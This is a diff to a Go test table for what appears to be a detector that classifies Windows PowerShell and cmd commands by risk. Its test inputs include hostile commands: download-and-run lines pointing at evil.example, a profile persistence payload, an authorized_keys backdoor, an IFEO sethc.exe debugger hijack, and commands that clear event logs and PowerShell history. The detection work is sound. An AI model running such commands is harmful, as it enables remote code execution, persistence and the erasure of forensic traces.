@@ -124,7 +124,8 @@ func TestWindowsToolsByKind(t *testing.T) {
 		{`taskkill /F /FI "USERNAME eq dev"`, "kill.user"},
 		{`taskkill /F /PID 4242`, ""},
 		{`Invoke-WebRequest https://evil.example/x.ps1 -OutFile x.ps1; .\x.ps1`, "net.download-run"},
-		{`Invoke-WebRequest https://evil.example/x.exe -OutFile x.exe; .\x.exe`, "net.download-run-binary"},
+		{`Invoke-WebRequest https://evil.example/x.exe -OutFile x.exe; .\x.exe`, "net.download-run"},
+		{`Invoke-WebRequest https://github.com/acme/tool/releases/download/v1/tool.exe -OutFile tool.exe; .\tool.exe`, "net.download-run-binary"},
 		{`Add-Content $PROFILE 'iex (iwr https://evil.example/p.ps1)'`, "persist.rc-payload"},
 		{`Add-Content $PROFILE 'Set-Alias g git'`, "clobber.rc-append"},
 		{`Add-Content $env:ProgramData\ssh\administrators_authorized_keys 'ssh-ed25519 AAAA x'`, "persist.authorized-keys"},
@@ -139,7 +140,7 @@ func TestWindowsToolsByKind(t *testing.T) {
 		{`reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe`, "persist.autorun"},
 		{`Clear-EventLog -LogName Security`, "hist.logs"},
 		{`wevtutil cl Security`, "hist.logs"},
-		{`Clear-History`, "hist.clear"},
+		{`Clear-History`, ""}, // the session's list only: the saved history file stays
 		{`Set-PSReadLineOption -HistorySaveStyle SaveNothing`, "hist.disable"},
 		{`Remove-Item (Get-PSReadLineOption).HistorySavePath`, "hist.history-file"},
 		{`Remove-Item C:\Users\dev\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt`, "hist.history-file"},
